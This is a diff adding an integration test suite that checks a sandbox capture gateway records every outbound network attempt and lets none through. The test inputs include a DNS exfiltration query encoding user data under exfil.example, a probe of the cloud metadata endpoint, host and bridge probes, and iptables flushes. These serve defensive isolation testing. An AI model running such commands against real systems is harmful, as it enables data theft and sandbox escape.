@@ -1,0 +1,235 @@
+/**
+ * The capture gateway, end to end with real containers: every kind of egress attempt made from
+ * inside the sandbox must come back as the right event, and nothing may reach anything real.
+ */
+import assert from 'node:assert/strict';
+import { createServer, type Server } from 'node:net';
+import { networkInterfaces } from 'node:os';
+import { after, before, describe, it } from 'node:test';
+import type { CaptureEvent, DatagramEvent, DnsEvent, IcmpEvent, StreamEvent } from '../../src/core/terms.js';
+import type { ImageRefs } from '../../src/images/inputs.js';
+import type { SandboxRun } from '../../src/sandbox/sandbox.js';
+import { CaptureTopology } from '../../src/sandbox/topology.js';
+import { engine as newEngine, images } from '../support/sandbox.js';
+
+/** A listener on every host address: if isolation leaked, it would see a connection. */
+async function hostListener(): Promise<{ server: Server; port: number; connections: () => number }> {
+  let n = 0;
+  const server = createServer((s) => {
+    n++;
+    s.end('REAL HOST\n');
+  });
+  await new Promise<void>((r) => server.listen(0, '0.0.0.0', r));
+  const addr = server.address();
+  assert.ok(addr && typeof addr === 'object');
+  return { server, port: addr.port, connections: () => n };
+}
+
+function hostAddresses(): string[] {
+  const out: string[] = [];
+  for (const list of Object.values(networkInterfaces())) {
+    for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) out.push(a.address);
+  }
+  return out;
+}
+
+const streams = (events: CaptureEvent[]) => events.filter((e): e is StreamEvent => e.kind === 'tcp' || e.kind === 'tls' || e.kind === 'http');
+const dns = (events: CaptureEvent[]) => events.filter((e): e is DnsEvent => e.kind === 'dns');
+
+describe('capture gateway', () => {
+  const engine = newEngine();
+  let refs: ImageRefs;
+  let run: SandboxRun;
+  let topo: CaptureTopology;
+  let lastSeq = -1;
+  let listener: Awaited<ReturnType<typeof hostListener>>;
+
+  before(async () => {
+    refs = await images(engine);
+    listener = await hostListener();
+    run = engine.newRun();
+    topo = await CaptureTopology.start(run, { runnerImage: refs.runner, gatewayImage: refs.gateway });
+  });
+  after(async () => {
+    await run?.dispose();
+    listener?.server.close();
+  });
+
+  /** Run a shell command in the sandbox and return the events it caused. */
+  async function attempt(cmd: string): Promise<{ events: CaptureEvent[]; stdout: string; exitCode: number | null }> {
+    const r = await topo.sandbox.exec(['bash', '-c', cmd], { timeoutMs: 30_000 });
+    const log = await topo.events();
+    const events = log.events.filter((e) => e.seq > lastSeq);
+    lastSeq = Math.max(lastSeq, ...log.events.map((e) => e.seq));
+    return { events, stdout: r.stdout, exitCode: r.exitCode };
+  }
+
+  it('curl over HTTP: the DNS query and the request with host, method and path', async () => {
+    const { events } = await attempt('curl -sS -m 5 "http://alpha.example/path?q=1"');
+    const q = dns(events).find((e) => e.qname === 'alpha.example' && e.qtype === 'A');
+    assert.ok(q, 'dns query recorded');
+    assert.match(q.answer, /^198\.1[89]\./);
+    const h = streams(events).find((e) => e.kind === 'http');
+    assert.ok(h, 'http request recorded');
+    assert.equal(h.host, 'alpha.example');
+    assert.equal(h.port, 80);
+    assert.equal(h.method, 'GET');
+    assert.equal(h.path, '/path?q=1');
+  });
+
+  it('curl and wget over HTTPS: TLS with SNI and ALPN', async () => {
+    const { events } = await attempt('curl -sS -m 5 https://beta.example/ ; wget -q -T 5 -t 1 -O /dev/null https://gamma.example/x; true');
+    const tls = streams(events).filter((e) => e.kind === 'tls');
+    const beta = tls.find((e) => e.sni === 'beta.example');
+    assert.ok(beta);
+    assert.equal(beta.port, 443);
+    assert.equal(beta.host, 'beta.example');
+    assert.ok(beta.alpn?.includes('http/1.1'));
+    assert.ok(tls.find((e) => e.sni === 'gamma.example' && e.host === 'gamma.example'));
+  });
+
+  it('wget over HTTP', async () => {
+    const { events } = await attempt('wget -q -T 5 -t 1 -O /dev/null http://gamma2.example/w');
+    assert.ok(streams(events).find((e) => e.kind === 'http' && e.host === 'gamma2.example' && e.path === '/w'));
+  });
+
+  it('Node http, https, net, tls and fetch', async () => {
+    const script = `
+      const http = require('http'), https = require('https'), net = require('net'), tls = require('tls');
+      http.get('http://delta.example:8080/n').on('error', () => {});
+      https.get('https://delta-s.example/s').on('error', () => {});
+      const s = net.connect(4444, 'epsilon.example', () => { s.write('hello raw'); setTimeout(() => s.destroy(), 300); }); s.on('error', () => {});
+      const t = tls.connect({ host: 'zeta.example', port: 8443, servername: 'zeta.example' }); t.on('error', () => {});
+      fetch('http://iota.example/f', { method: 'POST', body: 'x'.repeat(100) }).catch(() => {});
+      setTimeout(() => process.exit(0), 2500);`;
+    const { events } = await attempt(`node -e "${script.replace(/"/g, '\\"')}"`);
+    const s = streams(events);
+    assert.ok(s.find((e) => e.kind === 'http' && e.host === 'delta.example' && e.port === 8080 && e.path === '/n'), 'http');
+    assert.ok(s.find((e) => e.kind === 'tls' && e.sni === 'delta-s.example'), 'https');
+    const raw = s.find((e) => e.kind === 'tcp' && e.host === 'epsilon.example');
+    assert.ok(raw, 'net');
+    assert.equal(raw.port, 4444);
+    assert.equal(raw.firstBytesHex, Buffer.from('hello raw').toString('hex'));
+    assert.ok(s.find((e) => e.kind === 'tls' && e.sni === 'zeta.example' && e.port === 8443), 'tls');
+    const post = s.find((e) => e.kind === 'http' && e.host === 'iota.example');
+    assert.ok(post, 'fetch');
+    assert.equal(post.method, 'POST');
+    assert.equal(post.bodyBytes, 100);
+    assert.equal(Buffer.from(post.bodySample ?? '', 'base64').toString(), 'x'.repeat(100));
+  });
+
+  it('Node dgram, dns.lookup, and dns.Resolver with setServers to a raw IP asking for TXT', async () => {
+    const script = `
+      const dgram = require('dgram'), dns = require('dns');
+      const u = dgram.createSocket('udp4'); u.send(Buffer.from('ping'), 9999, '203.0.113.9', () => u.close());
+      dns.lookup('eta.example', () => {});
+      const r = new dns.Resolver(); r.setServers(['9.9.9.9']); r.resolveTxt('theta.example', () => {});
+      setTimeout(() => process.exit(0), 1500);`;
+    const { events } = await attempt(`node -e "${script.replace(/"/g, '\\"')}"`);
+    const udp = events.find((e): e is DatagramEvent => e.kind === 'udp');
+    assert.ok(udp, 'udp');
+    assert.equal(udp.ip, '203.0.113.9');
+    assert.equal(udp.port, 9999);
+    assert.equal(udp.bytes, 4);
+    assert.equal(udp.sampleHex, Buffer.from('ping').toString('hex'));
+    assert.ok(dns(events).find((e) => e.qname === 'eta.example' && e.qtype === 'A'), 'lookup');
+    const txt = dns(events).find((e) => e.qname === 'theta.example');
+    assert.ok(txt, 'resolver');
+    assert.equal(txt.qtype, 'TXT');
+    assert.equal(txt.resolver, '9.9.9.9');
+  });
+
+  it('python3 urllib', async () => {
+    const { events } = await attempt(`python3 -c "import urllib.request
+try: urllib.request.urlopen('http://kappa.example/py', timeout=5)
+except Exception: pass"`);
+    assert.ok(streams(events).find((e) => e.kind === 'http' && e.host === 'kappa.example' && e.path === '/py'));
+  });
+
+  it('a raw IPv4 on a non-standard port and an IPv6 literal', async () => {
+    const { events } = await attempt('curl -sS -m 5 http://203.0.113.7:1224/x; curl -sS -m 5 "http://[2001:db8::7]:8080/v6"; true');
+    const v4 = streams(events).find((e) => e.ip === '203.0.113.7');
+    assert.ok(v4);
+    assert.equal(v4.port, 1224);
+    assert.equal(v4.host, undefined);
+    const v6 = streams(events).find((e) => e.ip === '2001:db8::7');
+    assert.ok(v6, 'ipv6 literal recorded');
+    assert.equal(v6.port, 8080);
+    assert.equal(v6.path, '/v6');
+  });
+
+  it('a WebSocket upgrade is recognised', async () => {
+    const { events } = await attempt(
+      "curl -sS -m 5 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' http://lambda.example/socket; true",
+    );
+    const ws = streams(events).find((e) => e.host === 'lambda.example');
+    assert.ok(ws);
+    assert.equal(ws.websocket, true);
+  });
+
+  it('a DNS name with long hex labels is kept whole', async () => {
+    const name = `${Buffer.from('user=alice;host=laptop;cwd=/home').toString('hex').slice(0, 62)}.${'ab'.repeat(20)}.exfil.example`;
+    const { events } = await attempt(`dig +short +time=2 +tries=1 A ${name}`);
+    assert.ok(dns(events).find((e) => e.qname === name && e.transport === 'udp'));
+  });
+
+  it('ICMP echo is counted per destination', async () => {
+    const { events } = await attempt('ping -c 2 -W 1 203.0.113.5; true');
+    const icmp = events.find((e): e is IcmpEvent => e.kind === 'icmp' && e.ip === '203.0.113.5');
+    assert.ok(icmp, 'icmp recorded');
+    assert.ok(icmp.count >= 1);
+  });
+
+  it('the Docker bridge, the host addresses and the metadata service are recorded, never reached', async () => {
+    const targets = ['172.17.0.1', ...hostAddresses()];
+    const cmds = targets.map((ip) => `curl -sS -m 5 http://${ip}:${listener.port}/probe`).join('; ');
+    const { events, stdout } = await attempt(`${cmds}; curl -sS -m 5 http://169.254.169.254/latest/meta-data/; true`);
+    for (const ip of targets) assert.ok(streams(events).find((e) => e.ip === ip && e.port === listener.port), `attempt to ${ip} recorded`);
+    assert.ok(streams(events).find((e) => e.ip === '169.254.169.254' && e.path === '/latest/meta-data/'));
+    assert.equal(listener.connections(), 0, 'nothing reached the host');
+    assert.doesNotMatch(stdout, /REAL HOST/);
+  });
+
+  it('the sandbox cannot change the rules or the links', async () => {
+    const r = await topo.sandbox.exec(['sh', '-c', 'iptables -F OUTPUT; echo "iptables=$?"; iptables -t nat -F; echo "nat=$?"; ip link set v0 down; echo "ip=$?"']);
+    assert.match(r.stdout, /iptables=[1-9]/);
+    assert.match(r.stdout, /nat=[1-9]/);
+    assert.match(r.stdout, /ip=[1-9]/);
+    // The rules still work afterwards.
+    const { events } = await attempt('curl -sS -m 5 http://still-captured.example/');
+    assert.ok(streams(events).find((e) => e.host === 'still-captured.example'));
+  });
+
+  it('loopback servers in the sandbox work and are not egress', async () => {
+    const server = `require('http').createServer((q, s) => s.end('local-ok')).listen(8123, '127.0.0.1')`;
+    const { events, stdout } = await attempt(`node -e "${server}" & sleep 0.7; curl -sS -m 5 http://127.0.0.1:8123/; curl -sS -m 5 http://localhost:8123/; kill %1`);
+    assert.match(stdout, /local-ok/);
+    assert.deepEqual(streams(events), []);
+  });
+});
+
+describe('capture gateway, fail-closed', () => {
+  const engine = newEngine();
+
+  it('killing the capture leaves the sandbox with no network at all', async () => {
+    const refs = await images(engine);
+    const listener = await hostListener();
+    await using run = engine.newRun();
+    try {
+      const topo = await CaptureTopology.start(run, { runnerImage: refs.runner, gatewayImage: refs.gateway });
+      await topo.gateway.kill('SIGKILL');
+      await topo.gateway.wait(10_000);
+      const targets = ['mu.example', '203.0.113.1', '172.17.0.1', ...hostAddresses()];
+      for (const t of targets) {
+        const r = await topo.sandbox.exec(['curl', '-sS', '-m', '3', `http://${t}:${listener.port}/`], { timeoutMs: 15_000 });
+        assert.notEqual(r.exitCode, 0, `curl to ${t} must fail`);
+        assert.doesNotMatch(r.stdout, /REAL HOST/);
+      }
+      const d = await topo.sandbox.exec(['dig', '+time=1', '+tries=1', 'A', 'nu.example', '@9.9.9.9'], { timeoutMs: 15_000 });
+      assert.notEqual(d.exitCode, 0, 'dns must fail');
+      assert.equal(listener.connections(), 0);
+    } finally {
+      listener.server.close();
+    }
+  });
+});
